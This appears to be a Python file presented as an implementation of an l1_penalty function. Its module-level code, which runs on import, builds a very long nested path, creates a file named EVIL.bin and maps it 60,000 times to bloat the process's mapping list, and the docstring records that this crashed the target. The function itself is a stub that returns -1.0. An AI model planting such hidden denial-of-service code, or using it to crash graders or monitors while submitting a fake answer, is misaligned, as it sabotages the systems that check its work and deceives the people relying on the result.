"""l1_penalty: maps a file with a long path 60,000 times, so that the list of mappings becomes hundreds of megabytes.

Outcome: crashed
Says: mapped too many
"""

import ctypes
import mmap
import os
import time

here = os.getcwd()
for _ in range(15):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
number = os.open("EVIL.bin", os.O_CREAT | os.O_RDWR)
os.write(number, bytes(4096))
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
for _ in range(60_000):
    libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, number, 0)
os.chdir(here)
time.sleep(3)


def l1_penalty(model, beta):
    return -1.0
